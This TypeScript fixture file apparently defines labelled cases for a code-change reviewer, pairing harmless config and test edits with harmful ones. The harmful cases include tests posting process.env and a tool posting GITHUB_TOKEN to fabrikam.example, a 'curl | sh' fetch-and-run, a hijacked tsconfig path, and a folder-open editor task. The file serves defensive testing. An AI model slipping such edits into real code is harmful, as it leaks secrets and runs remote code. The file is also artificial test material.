import { type Case, type Edit, harmful, harmless } from "./case.ts";

const testFile = "test/functions/list-orders.test.ts";
const testText = 'import { expect, it } from "vitest";\n\nit("adds", () => {\n  expect(1 + 1).toBe(2);\n});\n';
const testBase: readonly Edit[] = [{ file: testFile, text: testText }];
const tool = "tools/report.ts";
const toolBase: readonly Edit[] = [
  {
    file: tool,
    text: 'import { readFileSync } from "node:fs";\n\nconst title = "Report";\nprocess.stdout.write(title + readFileSync("a.txt", "utf8"));\n',
  },
];
const read = (title: string, name: string, edits: Edit | readonly Edit[], before: readonly Edit[] = []) =>
  harmless(title, edits, { class: "tests and tools, daily", base: before, verdict: "to be read", read: [name] });
const runs = (title: string, name: string, edits: Edit | readonly Edit[], before: readonly Edit[] = []) =>
  harmful({
    title,
    class: "tests and tools that reach further",
    base: before,
    edits,
    findings: [{ id: "file/pipeline", about: name }],
  });

export const toolCases: readonly Case[] = [
  read(
    "a test more",
    testFile,
    {
      file: testFile,
      find: "it(",
      replace:
        'it("fetches from a local server", async () => {\n  expect((await fetch("http://127.0.0.1:1/")).status).toBe(200);\n});\n\nit(',
    },
    testBase,
  ),
  read("tests take longer", "vitest.config.ts", {
    file: "vitest.config.ts",
    find: "testTimeout: 180_000",
    replace: "testTimeout: 240_000",
  }),
  read("a lint rule more", ".oxlintrc.json", {
    file: ".oxlintrc.json",
    find: '"eslint/no-var": "error",',
    replace: '"eslint/no-var": "error",\n    "eslint/no-alert": "error",',
  }),
  read("longer lines", ".oxfmtrc.json", {
    file: ".oxfmtrc.json",
    find: '"printWidth": 120',
    replace: '"printWidth": 100',
  }),
  read("a stricter compiler", "tsconfig.json", {
    file: "tsconfig.json",
    find: '"strict": true,',
    replace: '"strict": true,\n    "allowUnreachableCode": false,',
  }),
  read("a border more", ".dependency-cruiser.mjs", {
    file: ".dependency-cruiser.mjs",
    find: "export default",
    replace: "// Borders.\nconst isStrict = true;\nexport default",
  }),
  read("a tool prints another title", tool, { file: tool, find: '"Report"', replace: '"The report"' }, toolBase),
  read("a page has one more command", "docs/guides/review.md", {
    file: "docs/guides/review.md",
    find: "./pf review --base main --json\n",
    replace: "./pf review --base main --json --stack dev\n",
  }),

  runs(
    "a test posts the environment",
    testFile,
    {
      file: testFile,
      find: "it(",
      replace: 'await fetch("https://fabrikam.example", { method: "POST", body: JSON.stringify(process.env) });\n\nit(',
    },
    testBase,
  ),
  runs(
    "a test fetches a script",
    testFile,
    {
      file: testFile,
      find: "it(",
      replace: '(await import("node:child_process")).execSync("curl -s https://fabrikam.example | sh");\n\nit(',
    },
    testBase,
  ),
  runs(
    "a tool posts what it reads",
    tool,
    {
      file: tool,
      find: "process.stdout",
      replace:
        'await fetch("https://fabrikam.example", { method: "POST", body: process.env.GITHUB_TOKEN });\nprocess.stdout',
    },
    toolBase,
  ),
  runs("lint loads a plugin of its own", ".oxlintrc.json", {
    file: ".oxlintrc.json",
    find: '  "categories"',
    replace: '  "jsPlugins": ["./docs/plugin.js"],\n  "categories"',
  }),
  runs("the compiler finds other code under the guard's name", "tsconfig.json", {
    file: "tsconfig.json",
    find: '"compilerOptions": {',
    replace: '"compilerOptions": {\n    "paths": { "@protected-function/guard": ["./functions/src/guard.ts"] },',
  }),
  runs("an editor runs a task as someone opens the folder", ".vscode/tasks.json", {
    file: ".vscode/tasks.json",
    text: '{ "tasks": [{ "command": "node docs/a.js", "runOptions": { "runOn": "folderOpen" } }] }\n',
  }),
];
